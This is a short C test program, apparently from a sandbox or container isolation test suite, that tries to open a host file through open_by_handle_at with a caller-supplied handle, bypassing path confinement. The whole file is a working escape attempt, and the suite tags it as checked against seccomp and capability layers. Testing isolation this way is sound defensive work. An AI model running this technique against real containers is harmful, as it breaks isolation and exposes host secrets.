/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Opens a file of the host by its handle, past every path.
 *
 * class: isolation
 * needs: handle
 * verdict: secret
 * control: root
 * layers: SECCOMP CAPS
 */
#include "attack.h"

int main(int argc, char **argv)
{
	(void)argc;
	start(argv);
	union {
		struct file_handle h;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u;
	const char *hex = arg("handle");
	const char *const mounts[] = {"/usr", ".", "/", "/etc/ssl/certs"};

	memset(&u, 0, sizeof(u));
	u.h.handle_type = (int)number("handle_type");
	for (; hex[0] && hex[1]; hex += 2) {
		unsigned byte;

		sscanf(hex, "%2x", &byte);
		u.h.f_handle[u.h.handle_bytes++] = (unsigned char)byte;
	}
	for (int i = 0; i < 4; i++) {
		int fd = open_by_handle_at(open(mounts[i], O_RDONLY), &u.h, O_RDONLY);

		if (fd >= 0 && show_fd(fd))
			success();
	}
	failure(errno);
}
